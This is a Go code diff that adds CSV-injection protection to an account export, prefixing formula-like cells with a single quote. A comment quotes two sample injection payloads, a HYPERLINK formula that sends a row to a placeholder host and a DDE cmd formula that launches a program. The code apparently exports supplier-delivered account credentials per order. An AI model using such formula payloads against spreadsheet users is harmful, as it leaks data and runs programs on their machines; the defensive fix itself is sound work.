@@ -14,10 +14,16 @@ import (
 // breaks replaced by spaces, so that the file always has exactly one line per account.
 //
 // .csv: RFC 4180 through encoding/csv, header "order,account", then one record per account with
-// the account verbatim (quoted when it holds a comma, a quote or a line break). The account is not
-// split into login and password: accounts come as login:password, mail:password:recovery-mail,
-// or tokens without any ':', and a split on the first ':' would misrepresent the latter; the
-// single column reads back exactly as delivered.
+// the account as delivered (quoted when it holds a comma, a quote or a line break) — except that
+// an account beginning with '=', '+', '-', '@', a tab or a carriage return gets a single quote
+// (') put in front of it. Accounts come from suppliers, and a spreadsheet opening the file would
+// otherwise run such a cell as a formula (=HYPERLINK("http://x/?"&A2) leaks the row,
+// =cmd|' /C calc'!A0 runs a program: CSV injection, OWASP's rule). The quote shows in the cell;
+// a reader that needs the exact account strips one leading quote from a cell whose second
+// character is one of those six, or takes the .txt export, which is never altered this way. The
+// account is not split into login and password: accounts come as login:password,
+// mail:password:recovery-mail, or tokens without any ':', and a split on the first ':' would
+// misrepresent the latter.
 
 // ExportTXT is the .txt export of accounts.
 func ExportTXT(accounts []string) []byte {
@@ -45,8 +51,17 @@ func ExportCSV(order int64, accounts []string) []byte {
 	_ = w.Write([]string{"order", "account"}) // a bytes.Buffer does not fail
 	id := strconv.FormatInt(order, 10)
 	for _, a := range accounts {
-		_ = w.Write([]string{id, a})
+		_ = w.Write([]string{id, csvCell(a)})
 	}
 	w.Flush()
 	return b.Bytes()
+}
+
+// csvCell neutralises a cell that a spreadsheet would read as a formula: one beginning with '=',
+// '+', '-', '@', a tab or a carriage return gets a leading single quote.
+func csvCell(s string) string {
+	if s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 {
+		return "'" + s
+	}
+	return s
 }
